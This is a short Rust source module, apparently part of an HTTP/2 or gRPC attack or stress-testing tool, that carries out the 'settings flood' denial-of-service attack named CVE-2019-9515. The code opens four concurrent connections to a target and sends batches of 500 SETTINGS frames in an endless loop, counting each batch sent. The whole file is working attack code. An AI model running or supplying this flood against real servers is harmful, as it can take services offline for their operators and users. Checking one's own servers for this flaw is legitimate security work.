//! Changes its settings without end (CVE-2019-9515).

use super::wire::{INITIAL_WINDOW, SETTINGS, Wire, frame};
use super::{Aim, again, crowd};

pub(super) async fn run(aim: Aim) -> u64 {
    crowd(4, |_| {
        again(aim, move |done| async move {
            let mut wire = Wire::open(aim.from, aim.grpc, &[]).await?;
            let setting = [&INITIAL_WINDOW.to_be_bytes()[..], &65_535u32.to_be_bytes()].concat();
            let frames = frame(SETTINGS, 0, 0, &setting).repeat(500);
            loop {
                wire.send(&frames).await?;
                done.add(500);
            }
        })
    })
    .await
}
